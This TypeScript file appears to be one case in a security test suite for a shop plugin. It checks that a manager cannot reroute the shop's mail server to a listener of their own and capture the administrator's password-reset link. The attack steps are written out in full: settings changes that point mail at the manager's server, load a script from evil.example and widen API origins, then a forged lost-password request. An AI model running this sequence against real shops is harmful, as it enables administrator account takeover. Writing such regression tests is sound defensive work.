import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import type { AttackedShop } from './attacked-shop.ts';

const ADMINISTRATOR = 'administrator@example.com';

/** A mail server of the manager's own; what it receives is read. */
async function openMailServer() {
  let received = '';
  const server = createServer((socket) => {
    let inBody = false;
    socket.setEncoding('utf8');
    socket.on('error', () => socket.destroy());
    socket.write('220 here\r\n');
    socket.on('data', (text: string) => {
      received += text;
      if (inBody) {
        if (!received.endsWith('\r\n.\r\n')) return;
        inBody = false;
        socket.write('250 taken\r\n');
      } else if (/^data/i.test(text)) {
        inBody = true;
        socket.write('354 go on\r\n');
      } else socket.write(/^quit/i.test(text) ? '221 bye\r\n' : '250 well\r\n');
    });
  });
  await new Promise<void>((listens) => server.listen(0, '127.0.0.1', listens));
  const { port } = server.address() as AddressInfo;
  return { url: `smtp://127.0.0.1:${port}`, received: () => received, close: () => server.close() };
}

async function change(shop: AttackedShop, name: string, value: unknown): Promise<number> {
  const response = await fetch(`${shop.address}/wp-json/vitrine/v1/settings`, {
    method: 'PUT',
    headers: { authorization: shop.managerKey, 'content-type': 'application/json' },
    body: JSON.stringify({ values: { [name]: value } }),
  });
  return response.status;
}

/** As the page for lost passwords does. */
async function askForLink(shop: AttackedShop): Promise<void> {
  const path = `${shop.address}/my-account/lost-password`;
  const page = await fetch(path);
  const cookie = page.headers.getSetCookie().map((line) => line.split(';')[0]);
  const nonce = /name="_wpnonce" value="([^"]+)"/.exec(await page.text())?.[1] ?? '';
  await fetch(path, {
    method: 'POST',
    redirect: 'manual',
    headers: { cookie: cookie.join('; '), origin: shop.address },
    body: new URLSearchParams({ _wpnonce: nonce, user_login: ADMINISTRATOR }),
  });
}

/** Whether the shop has sent the link, to wherever. */
async function isSent(shop: AttackedShop): Promise<boolean> {
  for (let tries = 0; tries < 40; tries += 1) {
    const waiting = await shop.look(({ db }) =>
      db
        .selectFrom('jobs')
        .select('id')
        .where('kind', '=', 'email')
        .where('payload', 'like', `%${ADMINISTRATOR}%`)
        .executeTakeFirst(),
    );
    if (!waiting) return true;
    await sleep(250);
  }
  return false;
}

export const attack: Attack = {
  line: 3,
  title: 'a manager sets the mail server and gets the reset link of the administrator',
  before: '200, and the link arrived at the manager’s server within 5 s',
  async run(shop) {
    const mail = await openMailServer();
    try {
      const changes: [string, unknown][] = [
        ['mail.smtpUrl', mail.url],
        ['accounts.staffSecondFactor', true],
        ['webhooks.allowPrivateAddresses', true],
        ['tracking.marketingScripts', ['https://evil.example/x.js']],
        ['tracking.hosts', ['https://evil.example']],
        ['locations.googleKey', 'x'],
        ['payments.stripe', { enabled: false }],
        ['api.origins', ['https://evil.example']],
      ];
      const statuses = [];
      for (const [name, value] of changes) statuses.push(await change(shop, name, value));
      await askForLink(shop);
      const sent = await isSent(shop);
      const arrived = mail.received().includes('token=');
      const refused = statuses.every((status) => status === 403);
      return {
        held: refused && sent && !arrived,
        figure: `${[...new Set(statuses)].join(', ')} for ${statuses.length} settings, ${arrived ? 'the' : 'no'} link arrived at the manager’s server`,
      };
    } finally {
      mail.close();
    }
  },
};
